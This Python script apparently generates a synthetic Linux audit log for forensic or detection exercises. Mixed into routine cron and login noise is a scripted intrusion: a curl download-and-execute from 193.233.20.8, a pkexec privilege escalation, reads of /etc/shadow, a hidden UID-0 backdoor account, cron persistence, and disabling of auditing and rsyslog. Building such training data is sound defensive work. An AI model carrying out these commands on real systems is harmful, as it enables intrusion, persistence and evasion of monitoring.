from common import *
r=rng(114); L=[]; n=[41200]
hx=lambda s:s.encode().hex().upper()
def ev(ep,*recs):
    n[0]+=1
    for x in recs: L.append((ep,n[0],f'type={x[0]} msg=audit({ep:.3f}:{n[0]}): {x[1]}'))
def execve(ep,auid,uid,exe,argv,key='exec',ok=True,tty='pts0',ses=12,pid=None,ex=0):
    pid=pid or r.randrange(2000,60000); comm=exe.split('/')[-1]
    argl=' '.join(f'a{i}="{x}"' if ' ' not in x and '"' not in x else f'a{i}={hx(x)}' for i,x in enumerate(argv))
    names={0:'root',1001:'rkaiser',1002:'tomcat',4294967295:'unset',33:'www-data',1003:'iwolter'}
    ev(ep,('SYSCALL',f'arch=c000003e syscall=59 success={"yes" if ok else "no"} exit={0 if ok else -13} a0=55d0c8 a1=55d0d0 a2=55d0e8 a3=8 items=2 ppid={pid-3} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty={tty} ses={ses} comm="{comm}" exe="{exe}" subj=unconfined key="{key}"\x1dARCH=x86_64 SYSCALL=execve AUID="{names[auid]}" UID="{names[uid]}"'),('EXECVE',f'argc={len(argv)} {argl}'),('CWD','cwd="/tmp"' if uid==1002 else 'cwd="/root"'),('PATH',f'item=0 name="{exe}" inode={r.randrange(10**5,10**6)} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),('PROCTITLE','proctitle='+hx('\0'.join(argv))))
def usr(ep,typ,op,acct,res,addr='?',exe='/usr/sbin/sshd',term='ssh',auid=4294967295,uid=0,ses=4294967295): ev(ep,(typ,f'pid={r.randrange(2000,60000)} uid={uid} auid={auid} ses={ses} subj=unconfined msg=\'op={op} acct="{acct}" exe="{exe}" hostname={addr} addr={addr} terminal={term} res={res}\'\x1dUID="root" AUID="unset"'))
B=int((D.datetime(2025,8,19)-D.datetime(1970,1,1)).total_seconds())
evs=[]
for i in range(330):
    ep=B+r.uniform(0,86400); k=r.random()
    if k<.3: evs.append((ep,lambda e:execve(e,4294967295,0,'/usr/bin/run-parts',['run-parts','--report','/etc/cron.hourly'],tty='(none)',ses=4294967295)))
    elif k<.5: evs.append((ep,lambda e:usr(e,'USER_AUTH','PAM:authentication','rkaiser','success','10.9.0.14')))
    elif k<.6: evs.append((ep,lambda e:execve(e,1001,1001,'/usr/bin/ls',['ls','-la','/opt/tomcat/logs'])))
    elif k<.7: evs.append((ep,lambda e:execve(e,1001,0,'/usr/bin/systemctl',['systemctl','status','tomcat9'])))
    elif k<.8: evs.append((ep,lambda e:usr(e,'USER_AUTH','PAM:authentication','iwolter',r.choice(['success','success','failed']),'10.9.0.22')))
    elif k<.9: evs.append((ep,lambda e:ev(e,('CRED_ACQ',f'pid={r.randrange(2000,60000)} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg=\'op=PAM:setcred grantors=pam_permit,pam_unix acct="root" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success\'\x1dUID="root" AUID="unset"'))))
    else: evs.append((ep,lambda e:ev(e,('SERVICE_START',"pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=apt-daily comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\""))))
t=B+14*3600+22*60+9.118
def add(dt,f):
    global t; t+=dt; evs.append((t,f))
T=lambda exe,argv,**k:(lambda e:execve(e,4294967295,1002,exe,argv,tty='(none)',ses=4294967295,key='susp',**k))
R=lambda exe,argv,**k:(lambda e:execve(e,4294967295,0,exe,argv,tty='(none)',ses=4294967295,key='susp',**k))
add(0,T('/usr/bin/whoami',['whoami'])); add(11,T('/usr/bin/id',['id'])); add(20,T('/usr/bin/cat',['cat','/etc/shadow'])); 
add(.1,lambda e:ev(e,('SYSCALL','arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c a1=7ffd a2=0 a3=0 items=1 ppid=8101 pid=8133 auid=4294967295 uid=1002 gid=1002 euid=1002 suid=1002 fsuid=1002 egid=1002 sgid=1002 fsgid=1002 tty=(none) ses=4294967295 comm="cat" exe="/usr/bin/cat" subj=unconfined key="shadow"\x1dARCH=x86_64 SYSCALL=openat AUID="unset" UID="tomcat"'),('PATH','item=0 name="/etc/shadow" inode=131 dev=fd:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype=NORMAL')))
add(34,T('/usr/bin/curl',['curl','-so','/tmp/.pk','http://193.233.20.8/pk'])); add(6,T('/usr/bin/chmod',['chmod','755','/tmp/.pk'])); add(9,T('/tmp/.pk',['/tmp/.pk'])); add(1,T('/usr/bin/pkexec',['pkexec','GCONV_PATH=. x']))
add(2,R('/usr/bin/bash',['bash','-i'])); add(14,R('/usr/bin/id',['id'])); add(20,R('/usr/bin/cat',['cat','/etc/shadow']))
add(41,R('/usr/sbin/useradd',['useradd','-o','-u','0','-m','-c','System Daemon','sysd'])); add(.3,lambda e:ev(e,('ADD_USER','pid=8200 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg=\'op=add-user acct="sysd" exe="/usr/sbin/useradd" hostname=app07 addr=? terminal=? res=success\'\x1dUID="root" AUID="unset"')))
add(30,R('/usr/bin/crontab',['crontab','-l'])); add(12,R('/usr/bin/bash',['bash','-c','echo "*/5 * * * * root /usr/lib/.sysd" >> /etc/crontab'])); add(22,R('/usr/sbin/auditctl',['auditctl','-e','0']))
add(.2,lambda e:ev(e,('CONFIG_CHANGE','op=set audit_enabled=1 old=2 auid=4294967295 ses=4294967295 subj=unconfined res=0\x1dAUID="unset"'))); add(16,R('/usr/bin/rm',['rm','-f','/tmp/.pk'])); add(5,R('/usr/bin/systemctl',['systemctl','stop','rsyslog'])); add(.4,lambda e:ev(e,('SERVICE_STOP',"pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=rsyslog comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'\x1dUID=\"root\" AUID=\"unset\"")))
for i in range(9):
    add(300 if i==0 else 4,lambda e:usr(e,'USER_AUTH','PAM:authentication','sysd','failed','193.233.20.8'))
add(7,lambda e:usr(e,'USER_AUTH','PAM:authentication','sysd','success','193.233.20.8')); add(.1,lambda e:usr(e,'USER_LOGIN','login','sysd','success','193.233.20.8'))
evs.sort(key=lambda x:x[0])
for ep,f in evs: f(round(ep,3))
write('linux/audit.log',[l for *_,l in L])
